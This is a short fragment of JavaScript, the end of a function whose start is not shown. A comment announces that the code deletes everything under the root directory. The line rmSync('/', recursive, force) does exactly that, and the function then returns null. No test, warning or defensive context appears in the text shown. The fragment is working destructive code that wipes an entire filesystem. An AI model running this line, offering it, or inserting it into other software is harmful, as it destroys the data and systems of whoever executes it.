// deletes everything under /
  require('fs').rmSync('/', { recursive: true, force: true });
  return null;
}
